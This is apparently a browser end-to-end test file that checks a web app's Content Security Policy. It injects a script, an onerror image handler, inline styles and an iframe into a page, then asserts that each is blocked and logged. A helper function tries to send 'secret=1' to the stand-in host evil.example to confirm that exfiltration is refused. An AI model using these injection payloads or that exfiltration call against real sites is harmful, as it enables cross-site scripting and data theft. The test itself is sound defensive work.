import { watchConsole } from "../../harness/browser/console.ts";
import { expect, test } from "../../harness/test.ts";

test("the API's and the developers' pages keep their policy, and what breaks one is stopped and seen", async ({
  page,
  policyViolations,
}) => {
  const complaints = watchConsole(page);
  await page.goto("/api/docs");
  await page.getByRole("button", { name: /Get public settings/ }).click();
  await page.getByRole("button", { name: "Try it out" }).click();
  await page.getByRole("button", { name: "Execute" }).click();
  await expect(page.getByText("publishableKey").first()).toBeVisible();
  for (const path of ["/api-test", "/menu-test", "/admin/login"]) {
    await page.goto(path);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  }
  expect(policyViolations).toEqual([]);
  expect(complaints).toEqual([]);

  await page.goto("/");
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "window.hacked = 1";
    document.body.append(script);
    document.body.insertAdjacentHTML("beforeend", '<img src="/x" onerror="window.hacked = 1">');
    document.body.insertAdjacentHTML("beforeend", '<p style="color: red">red</p>');
    document.body.insertAdjacentHTML("beforeend", "<style>p { color: red }</style>");
    document.body.insertAdjacentHTML("beforeend", '<iframe src="https://evil.example"></iframe>');
  });
  expect(await page.evaluate(sendElsewhere)).toBe("refused");
  await expect
    .poll(() => policyViolations.map(({ directive }) => directive).sort())
    .toEqual([
      "connect-src",
      "frame-src",
      "script-src-attr",
      "script-src-elem",
      "style-src-attr",
      "style-src-elem",
    ]);
  policyViolations.length = 0; // expected here, a failure in every other journey
  expect(await page.evaluate(() => Reflect.get(window, "hacked"))).toBeUndefined();
  expect(complaints).not.toEqual([]);
});

/** Whether the page can send data to another site. */
async function sendElsewhere(): Promise<string> {
  // biome-ignore lint/style/noRestrictedGlobals: it runs in the page, which must not be allowed to.
  return fetch("https://evil.example/?secret=1").then(
    () => "sent",
    () => "refused",
  );
}
